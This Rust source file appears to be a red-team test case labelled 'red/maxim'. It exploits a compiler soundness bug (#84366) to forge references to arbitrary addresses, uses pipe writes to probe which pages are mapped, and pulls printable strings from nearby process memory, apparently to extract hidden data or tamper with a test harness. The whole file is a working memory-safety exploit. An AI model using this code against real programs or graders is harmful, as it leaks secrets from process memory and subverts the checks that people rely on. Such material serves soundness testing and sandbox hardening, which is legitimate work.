//! task: red/maxim
//! expect: test_failed|crashed|timeout|tampered|resource_limit
//! attack: the same without naming any lifetime: a closure's type outlives what it returns (#84366)
use std::any::Any;
use std::hint::black_box;
use std::io::{PipeReader, PipeWriter, Read, Write};

enum Slot {
    Numbers(Option<Box<[usize; 2]>>),
    Slice(Option<Box<&'static [u8]>>),
}

fn store<I: Iterator + Any>(_: &I, item: I::Item) -> Box<dyn Any> {
    Box::new(item)
}

fn lengthen(value: &mut Option<Box<&'static [u8]>>) -> &'static mut Option<Box<&'static [u8]>> {
    let iterator = std::iter::from_fn(|| None::<&mut Option<Box<&'static [u8]>>>);
    *store(&iterator, value).downcast().unwrap()
}

/// A slice of any memory, out of two numbers that are read back as a reference.
#[inline(never)]
fn memory(address: usize, length: usize) -> &'static [u8] {
    let mut slot = Slot::Slice(None);
    let Slot::Slice(slice) = black_box(&mut slot) else { unreachable!() };
    let slice = lengthen(slice);
    slot = Slot::Numbers(Some(Box::new([address, length])));
    black_box(&slot);
    let found = slice.take().map_or(&[][..], |slice| *slice);
    if let Slot::Numbers(numbers) = slot {
        std::mem::forget(numbers);
    }
    found
}

/// A page's bytes if it is mapped: a system call fails where an access would fault.
fn page(reader: &mut PipeReader, writer: &mut PipeWriter, address: usize) -> Option<Vec<u8>> {
    let mut bytes = vec![0u8; 4096];
    if writer.write(memory(address, 4096)).ok()? != 4096 {
        return None;
    }
    reader.read_exact(&mut bytes).ok()?;
    Some(bytes)
}

fn maxim() -> String {
    let Ok((mut reader, mut writer)) = std::io::pipe() else { return String::new() };
    let here = black_box("a constant of its own").as_ptr() as usize & !4095;
    let mut pages = Vec::new();
    for step in 1..64 {
        let Some(bytes) = page(&mut reader, &mut writer, here - 4096 * step) else { break };
        pages.insert(0, bytes);
    }
    for step in 0..64 {
        let Some(bytes) = page(&mut reader, &mut writer, here + 4096 * step) else { break };
        pages.push(bytes);
    }
    let printable = |byte: &u8| matches!(byte, b' '..=b'~');
    let mut texts = String::new();
    for text in pages.concat().split(|byte| !printable(byte)).filter(|text| text.len() > 24) {
        texts.push_str(&String::from_utf8_lossy(text));
        texts.push(' ');
    }
    texts.chars().take(500_000).collect()
}
